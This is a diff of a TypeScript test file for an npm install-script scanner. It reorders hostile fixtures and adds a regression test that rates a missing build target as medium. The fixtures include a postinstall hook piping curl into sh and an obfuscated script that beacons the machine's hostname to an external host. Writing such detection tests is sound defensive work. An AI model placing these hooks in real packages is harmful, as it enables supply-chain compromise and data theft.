@@ -25,6 +25,8 @@ const b64 = (s: string) => Buffer.from(s).toString('base64');
 // An obfuscator.io-shaped file: string table of escaped strings, _0x identifiers, rotation, lookups.
 const obfuscated = `var _0x4f2a=['\\x68\\x74\\x74\\x70\\x73','\\x67\\x65\\x74','\\x68\\x6f\\x73\\x74\\x6e\\x61\\x6d\\x65','\\x6f\\x73'];(function(_0x1b2c3d,_0x5e6f7a){var _0x2d1e4f=function(_0x3a4b5c){while(--_0x3a4b5c){_0x1b2c3d['push'](_0x1b2c3d['shift']());}};_0x2d1e4f(++_0x5e6f7a);}(_0x4f2a,0x1a3));var _0x3c4d=function(_0x6a7b8c,_0x9d0e1f){_0x6a7b8c=_0x6a7b8c-0x0;var _0x7f8a9b=_0x4f2a[_0x6a7b8c];return _0x7f8a9b;};var _0x5b6c7d=require(_0x3c4d('0x0'));var _0x8e9f0a=require(_0x3c4d('0x3'));_0x5b6c7d[_0x3c4d('0x1')]('\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f\\x63\\x2e\\x65\\x78\\x61\\x6d\\x70\\x6c\\x65\\x2f'+_0x8e9f0a[_0x3c4d('0x2')]());`;
 
+const missingTarget = fixture('missing-target', { scripts: { postinstall: 'node dist/setup.js' } }, { 'index.js': 'module.exports = 1;\n' });
+
 const hostile: [string, PackageFixture][] = [
   ['curl piped into sh', fixture('curl-sh', { scripts: { postinstall: 'curl -fsSL https://get.example.dev/setup.sh | sh' } })],
   [
@@ -50,7 +52,6 @@ req.end();
 `,
     }),
   ],
-  ['script target missing from the tarball', fixture('missing-target', { scripts: { postinstall: 'node dist/setup.js' } }, { 'index.js': 'module.exports = 1;\n' })],
   ['obfuscated target file', fixture('obfuscated', { scripts: { postinstall: 'node index.js' } }, { 'index.js': obfuscated })],
   [
     'dependency-confusion probe sending hostname and user',
@@ -269,22 +270,21 @@ describe('install-scripts: hostile install hooks reach high or critical', () => 
     expect(ids(1)).toContain('downloadExecute');
     expect(ids(2)).toContain('encodedPayload');
     expect(ids(3)).toContain('exfiltration');
-    expect(ids(4)).toContain('missingTarget');
-    expect(ids(5)).toContain('obfuscatedTarget');
-    expect(ids(6)).toContain('hostBeacon');
+    expect(ids(4)).toContain('obfuscatedTarget');
+    expect(ids(5)).toContain('hostBeacon');
+    expect(ids(6)).toContain('pipeToShell');
     expect(ids(7)).toContain('pipeToShell');
-    expect(ids(8)).toContain('pipeToShell');
-    expect(ids(10)).toContain('downloadExecute');
-    expect(run(hostile[11]![1]).findings.find((x) => x.messageId === 'downloadExecute')?.evidence).toMatchObject({ file: 'lib/fetch-helper.js', line: 12 });
+    expect(ids(9)).toContain('downloadExecute');
+    expect(run(hostile[10]![1]).findings.find((x) => x.messageId === 'downloadExecute')?.evidence).toMatchObject({ file: 'lib/fetch-helper.js', line: 12 });
     const exfil = run(hostile[3]![1]).findings.find((x) => x.messageId === 'exfiltration')!;
     expect(exfil.evidence.file).toBe('lib/telemetry.js');
     expect(exfil.evidence.line).toBe(4);
-    const aliased = run(hostile[7]![1]).findings.find((x) => x.messageId === 'pipeToShell')!;
+    const aliased = run(hostile[6]![1]).findings.find((x) => x.messageId === 'pipeToShell')!;
     expect(aliased.evidence).toMatchObject({ file: 'scripts/i.js', line: 4 });
   });
 
   it('says when a file was read by token search instead of parsing', () => {
-    const r = run(hostile[9]![1]);
+    const r = run(hostile[8]![1]);
     const payload = r.findings.find((x) => x.messageId === 'encodedPayload')!;
     expect(payload.data?.what).toMatch(/token search: parse failed/);
     expect(r.unavailable?.some((u) => /parse failed/.test(u.reason))).toBe(true);
@@ -301,7 +301,12 @@ describe('install-scripts: hostile install hooks reach high or critical', () => 
     expect(run(f).ids).toContain('pipeToShell');
   });
 
-  it('a guarded missing target weighs less than an unguarded one', () => {
+  it('a missing target is worth a look, not an alarm: the install fails, or something else places the file; guarded it weighs less', () => {
+    // Regression (hasura-cli, storybook-addon-react-router-v6, @stacksjs/gitlint: high 70 on npm's
+    // ranks 19,000-33,000, each a hook naming a build output the tarball lacks). The bytes show no payload.
+    const missing = run(missingTarget);
+    expect(missing.ids).toContain('missingTarget');
+    expect(missing.level).toBe('medium');
     const guarded = run(fixture('g', { scripts: { postinstall: 'node dist/setup.js || true' } }));
     expect(guarded.findings.find((x) => x.messageId === 'missingTarget')?.weight).toBeLessThan(40);
   });
@@ -459,7 +464,7 @@ describe('install-scripts: missing facts', () => {
   });
 
   it('judges the packument scripts when the tarball was not read, and says the targets were not checked', () => {
-    const facts = factsFromFixture(hostile[4]![1]);
+    const facts = factsFromFixture(missingTarget);
     const r = installScripts.detect({ facts: { ...facts, manifest: undefined, files: undefined }, options: installScripts.meta.options.parse({}), now: new Date() });
     expect(r.findings.map((f) => f.messageId)).not.toContain('missingTarget');
     expect(r.unavailable?.some((u) => u.signal === 'install-script targets')).toBe(true);
